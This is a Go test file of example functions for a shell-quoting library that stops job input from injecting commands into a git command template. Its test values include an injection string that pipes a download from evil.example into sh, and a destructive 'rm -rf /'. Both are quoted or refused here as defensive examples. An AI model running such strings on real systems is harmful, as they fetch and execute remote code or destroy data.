package shell_test

import (
	"errors"
	"fmt"

	"github.com/hushflow/hushflow/render/internal/shell"
)

// A shell action's template with job input in three contexts: the value
// reaches git as one argument each time, and cannot end the command.
func ExampleQuoter() {
	input := `fix "quoting"; curl evil.example | sh`
	q := shell.NewQuoter()
	q.Author("git commit -m ")
	_ = q.Value(input)
	q.Author(` && echo "committed: `)
	_ = q.Value(input)
	q.Author("\" && git tag v")
	_ = q.Value("1.2.3")
	cmd, err := q.String()
	fmt.Println(cmd, err)
	// Output:
	// git commit -m 'fix "quoting"; curl evil.example | sh' && echo "committed: fix \"quoting\"; curl evil.example | sh" && git tag v1.2.3 <nil>
}

// A value where the shell would run it is refused, naming the context, not the value.
func ExampleQuoter_refused() {
	q := shell.NewQuoter()
	q.Author("echo start; ")
	err := q.Value("rm -rf /")
	fmt.Println(errors.Is(err, shell.ErrUnsafe))
	fmt.Println(err)
	// Output:
	// true
	// shell: value in command position: the value would choose the command to run (the first word of a command, after ; && || | ( { newline then do else and the like)
}

// shell_words: the opt-in to word splitting: each word is its own quoted argument.
func ExampleQuoter_Words() {
	q := shell.NewQuoter()
	q.Author("rm -- ")
	_ = q.Words([]string{"a file.txt", "*.log"})
	cmd, _ := q.String()
	fmt.Println(cmd)
	// Output:
	// rm -- 'a file.txt' '*.log'
}
